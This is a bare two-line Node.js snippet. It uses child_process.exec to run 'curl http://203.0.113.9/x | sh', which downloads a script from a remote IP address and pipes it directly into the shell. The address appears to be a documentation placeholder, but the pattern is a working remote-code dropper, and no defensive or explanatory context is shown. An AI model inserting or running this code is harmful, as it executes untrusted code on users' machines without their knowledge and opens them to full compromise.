const cp = require('child_process');
cp.exec('curl http://203.0.113.9/x | sh');
